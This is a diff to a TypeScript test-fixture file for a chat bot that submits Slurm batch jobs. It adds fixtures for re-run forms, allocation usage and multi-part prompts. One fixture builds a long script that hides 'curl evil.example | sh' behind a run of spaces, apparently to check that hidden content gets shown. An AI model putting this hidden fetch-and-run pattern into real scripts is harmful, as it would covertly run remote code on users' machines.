@@ -3,7 +3,9 @@ import type { Ability, Operation, Refused } from '../../src/jobs/abilities.ts';
 import type { Allocation, JobDetails } from '../../src/jobs/job.ts';
 import type { Past } from '../../src/jobs/past.ts';
 import { type Phase, phases } from '../../src/jobs/phase.ts';
+import { type Changeable, changeScript } from '../../src/scripts/changes.ts';
 import { type Finding, readScript, type Script } from '../../src/scripts/script.ts';
+import { usage } from '../../src/views/allocation-usage.ts';
 import { card } from '../../src/views/card.ts';
 import { chooseJob, chooseScript } from '../../src/views/choosing.ts';
 import {
@@ -26,6 +28,8 @@ import { deleteModal, unlinkModal } from '../../src/views/removing.ts';
 import { reply } from '../../src/views/reply.ts';
 import { prompt } from '../../src/views/script-prompt.ts';
 import { submissionFailed, submitModal, submitted } from '../../src/views/submitting.ts';
+import { named } from '../../src/views/text.ts';
+import { type PromptPart, wholePrompt } from '../../src/views/whole-prompt.ts';
 
 /** What came from outside: names, messages and files that anybody may have written. */
 export interface Foreign {
@@ -136,6 +140,14 @@ function quotingScript(foreign: Foreign): Script {
   return { ...read, components, warnings: Array(10).fill(finding) };
 }
 
+const jobPage = 'https://portal.example.org/projects/77aa/';
+
+function submittedPart({ name, file }: Foreign, times: number): PromptPart {
+  const job = { name, slurmId: '48213', by: 'U0ANA00001', at: day(12), card: permalink };
+  const jobs = [{ ...job, slurmId: '', card: null }, ...Array(times - 1).fill(job)];
+  return { is: 'submitted', scriptKey, fileName: file, jobs, converted: false, gone: false };
+}
+
 const permalink = 'https://lab.example.org/files/U0BEN00001/F0TRAIN001/train.sh';
 
 /** A script of more lines, and longer ones, than a form shows. */
@@ -143,6 +155,25 @@ function longScript(foreign: Foreign) {
   const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
   const lines = ['#!/bin/bash', hiding, ...Array(250).fill(`echo ${foreign.text}`), hiding, hiding];
   return readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
+}
+
+/** What a form to run a job again has besides. */
+function again(foreign: Foreign, option: Changeable, value: string) {
+  const lines = ['#!/bin/bash', '#SBATCH -p gpu --mem=32G', `srun ./train ${foreign.text}`, ''];
+  const changes = value === '' ? [] : [{ option, value }];
+  const changed = changeScript(Buffer.from(lines.join('\n')), changes);
+  const read = readScript(changed?.bytes ?? Buffer.alloc(0), { maxBytes: 1_000_000 });
+  return {
+    source: {
+      fileName: foreign.file,
+      script: read,
+      permalink: null,
+      changed: changed?.lines ?? [],
+    },
+    more: { option, value, own: read.options[option] ?? '' },
+    inThread: false,
+    threadChannel: null,
+  };
 }
 
 /** A job of which all is known that can be. */
@@ -190,6 +221,8 @@ export function messages(foreign: Foreign): Record<string, Message> {
     person: 'U0ANA00001',
     tasks: '',
     output: 'slurm-48213.out',
+    asked: pastOf('failed', foreign).asked,
+    submissionId: null,
   };
   const rows = [
     { ...job(foreign), phase: 'running' as const, tasks: '2 running · 4 queued', ownerName: name },
@@ -465,30 +498,34 @@ export function messages(foreign: Foreign): Record<string, Message> {
       phase: 'running',
       tasks: '',
       past: unknownPast,
+      page: jobPage,
       now: day(15),
     }),
     'details left the queue': details(job(foreign), nothing, {
       phase: 'left the queue',
       tasks: '',
       past: pastOf('left the queue', foreign),
+      page: null,
       now: day(15),
     }),
     'details of an array': details(job(foreign), nothing, {
       phase: 'running',
       tasks: '2 running · 4 queued',
       past: pastOf('running', foreign),
+      page: jobPage,
       now: day(15),
     }),
     'details not handed over': details(job(foreign, { runtimeState: '', slurmId: '' }), nothing, {
       phase: 'submitting',
       tasks: '',
       past: unknownPast,
+      page: jobPage,
       now: day(15),
     }),
     'details erred': details(
       job(foreign, { state: 'erred', errorMessage: error || 'sbatch: error: no' }),
       nothing,
-      { phase: 'erred', tasks: '', past: unknownPast, now: day(15) },
+      { phase: 'erred', tasks: '', past: unknownPast, page: jobPage, now: day(15) },
     ),
     prompt: prompt({
       scriptKey,
@@ -504,6 +541,21 @@ export function messages(foreign: Foreign): Record<string, Message> {
       script: quotingScript(foreign),
       converted: true,
     }),
+    'prompt submitted': wholePrompt([submittedPart(foreign, 7)]),
+    'prompt of several': wholePrompt([
+      {
+        is: 'read',
+        scriptKey,
+        fileName: file,
+        name,
+        script: quotingScript(foreign),
+        converted: false,
+      },
+      { is: 'read', scriptKey, fileName: file, name, script: bad, converted: false },
+      submittedPart(foreign, 1),
+      { is: 'unread', scriptKey, fileName: file, sentence: named(file) },
+      { is: 'gone', scriptKey, fileName: file },
+    ]),
     'prompt refused': prompt({ scriptKey, fileName: file, name, script: bad, converted: false }),
     connect: connectOffer({
       purpose: 'submit',
@@ -530,6 +582,20 @@ export function messages(foreign: Foreign): Record<string, Message> {
       waldurUrl,
     }),
     connected: connected({ fullName: owner, username: login, next: '' }),
+    usage: usage([
+      allocation(foreign),
+      {
+        ...allocation(foreign),
+        usage: { cpu: 3.45, gpu: 1200, ram: 0 },
+        limit: { cpu: -1, gpu: 1000, ram: 0 },
+      },
+      {
+        ...allocation(foreign),
+        usage: { cpu: 0, gpu: 0, ram: 0 },
+        limit: { cpu: -1, gpu: -1, ram: -1 },
+      },
+    ]),
+    'no allocation': usage([]),
     whoami: identity({
       fullName: owner,
       username: login,
@@ -570,7 +636,8 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
   const { owner = name, login = name, email = text } = foreign;
   const form = {
     metadata: '{}',
-    sharedBy: 'U0BEN00001',
+    foreign: 'U0BEN00001',
+    more: null,
     username: login,
     name,
     description: text,
@@ -589,34 +656,53 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
     wait: waitModal('Submit to Slurm', 'Submitting…'),
     connect: connectModal({
       waldurUrl: 'https://waldur.example.org',
+      tokenPage: 'https://portal.example.org/profile/api-key/',
       metadata: '{}',
       problem: 'Waldur does not take this token.',
     }),
     submit: submitModal({
       ...form,
-      source: { fileName: file, script: script(foreign), permalink },
+      source: { fileName: file, script: script(foreign), permalink, changed: [] },
       inThread: true,
       threadChannel: 'C0JOBS0001',
     }),
     'submit a long script': submitModal({
       ...form,
-      source: { fileName: file, script: longScript(foreign), permalink },
+      source: { fileName: file, script: longScript(foreign), permalink, changed: [] },
       inThread: true,
       threadChannel: null,
     }),
     'submit upload': submitModal({
       ...form,
       source: null,
-      sharedBy: null,
+      foreign: null,
       inThread: false,
       threadChannel: null,
     }),
+    'run again with more memory': submitModal({
+      ...form,
+      ...again(foreign, 'mem', '64G'),
+      foreign: null,
+      problem: '`48213` ran out of memory.',
+    }),
+    'run again somebody else’s': submitModal({
+      ...form,
+      ...again(foreign, 'time', '9:00:00'),
+      foreign: '',
+      problem: '`48213` reached its time limit.',
+    }),
+    'run again, nothing was asked for': submitModal({
+      ...form,
+      ...again(foreign, 'time', ''),
+      foreign: null,
+      problem: '`48213` reached its time limit.',
+    }),
+    'run again as it was': submitModal({ ...form, ...again(foreign, 'mem', ''), foreign: null }),
     edit: editModal({ metadata: '{}', name, description: text, upload: true, problem: null }),
     unlink: unlinkModal({ name, slurmId: '48213', phase: 'running', metadata: '{}' }),
     'unlink an ended job': unlinkModal({ name, slurmId: '48213', phase: 'failed', metadata: '{}' }),
-    delete: deleteModal({ uuid, name, slurmId: '48213', phase: 'running', metadata: '{}' }),
+    delete: deleteModal({ name, slurmId: '48213', phase: 'running', metadata: '{}' }),
     'delete an ended job': deleteModal({
-      uuid,
       name,
       slurmId: '48213',
       phase: 'failed',
